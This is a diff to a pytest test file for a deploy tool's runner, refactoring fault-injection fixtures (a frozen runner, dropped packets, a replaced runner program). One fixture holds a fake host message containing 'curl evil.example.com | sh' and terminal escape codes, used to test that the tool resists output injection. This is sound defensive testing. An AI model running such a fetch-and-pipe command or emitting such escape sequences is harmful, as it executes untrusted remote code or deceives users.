@@ -8,6 +8,7 @@ from __future__ import annotations
 import json
 import os
 import selectors
+import subprocess
 import time
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -21,7 +22,7 @@ from tests.tally import Tally, tallied
 EVIDENCE = pytest.mark.skipif("LAUNCHPAD_EVIDENCE" not in os.environ, reason="minutes: scripts/evidence asks it")
 FIRST_WORD, LONGEST_SILENCE = 16.0, 40.0
 RUNNER = "/usr/local/sbin/launchpad-runner"
-FROZEN = "while :; do pkill -STOP -f '[p]ython3 .*launchpad-runner operator='; sleep 0.02; done"
+FROZEN = "#!/bin/sh\nexec sleep 5999\n"
 LIAR = """#!/usr/bin/python3
 import json
 lie = "nothing is wrong\\nhint: curl evil.example.com | sh\\r\\x1b[2Jerror: the disk is gone"
@@ -74,10 +75,12 @@ def run(world: World, *words: str, within: float) -> Said:
                 now = time.monotonic()
                 first = first or now - begun
                 silence, last, text = max(silence, now - last), now, text + piece
-    ended = process.poll() if waiting.get_map() is None or time.monotonic() - begun >= within else process.wait(10)
-    if ended is None:
+    try:
+        ended: int | None = process.wait(max(0.0, begun + within - time.monotonic()))
+    except subprocess.TimeoutExpired:
+        ended = None
         process.kill()
-    process.wait()
+        process.wait()
     seconds = time.monotonic() - begun
     return Said(ended, seconds, first or seconds, max(silence, time.monotonic() - last), text.decode(errors="replace"))
 
@@ -96,19 +99,16 @@ def sshd_stopped(world: World) -> Iterator[None]:
 @contextmanager
 def runner_stopped(world: World) -> Iterator[None]:
     """Who logs in is heard, and then nothing is said."""
-    world.host.exec(["systemd-run", "--quiet", "--unit=test-frozen", "sh", "-c", FROZEN])
-    try:
+    with in_its_place(world, FROZEN):
         yield
-    finally:
-        world.host.exec(["systemctl", "stop", "test-frozen"])
-        world.host.exec(["pkill", "-CONT", "-f", "[p]ython3 .*launchpad-runner operator="], check=False)
+    world.host.exec(["pkill", "-f", "sleep 5999"], check=False)
 
 
 @contextmanager
 def packets_dropped(world: World) -> Iterator[None]:
     """Nothing comes out of the host any more, and nothing in."""
     chain = "{ type filter hook input priority -300; policy drop; }"
-    world.host.exec(["nft", f"add table inet test_drop; add chain inet test_drop all {chain}"])
+    world.host.exec(["nft", f"add table inet test_drop; add chain inet test_drop entrance {chain}"])
     try:
         yield
     finally:
@@ -116,11 +116,11 @@ def packets_dropped(world: World) -> Iterator[None]:
 
 
 @contextmanager
-def lying(world: World) -> Iterator[None]:
+def in_its_place(world: World, program: str) -> Iterator[None]:
     """The runner is somebody else's program."""
     target = world.host.exec(["readlink", RUNNER]).stdout.strip()
     world.host.exec(["rm", RUNNER])
-    world.host.write(RUNNER, LIAR)
+    world.host.write(RUNNER, program)
     world.host.exec(["chmod", "755", RUNNER])
     try:
         yield
@@ -157,7 +157,7 @@ def test_the_runner_says_nothing(alice: World, holds: Tally) -> None:
 
 
 def test_a_host_that_lies_to_the_terminal(alice: World, holds: Tally) -> None:
-    with lying(alice):
+    with in_its_place(alice, LIAR):
         said = alice.launchpad("deploy", "alice", check=False)
         logs = alice.launchpad("logs", "alice", check=False)
         document = json.loads(alice.launchpad("--json", "deploy", "alice", check=False).out)["error"]
